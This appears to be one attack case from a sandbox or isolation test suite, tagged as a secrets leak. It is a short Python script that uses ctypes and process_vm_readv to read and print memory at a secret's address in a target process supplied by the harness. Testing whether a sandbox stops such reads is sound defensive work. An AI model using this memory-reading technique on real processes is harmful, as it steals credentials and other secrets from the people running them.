"""Reads the caller's memory with process_vm_readv, at the address where the secret is."""

# ruff: noqa
# class: secrets
# wins: leak
# proof: plain

import ctypes


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(256)
ours, theirs = Vector(ctypes.addressof(room), 256), Vector(SCENE["address"], 256)
libc.process_vm_readv(SCENE["holder"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
print(room.raw)
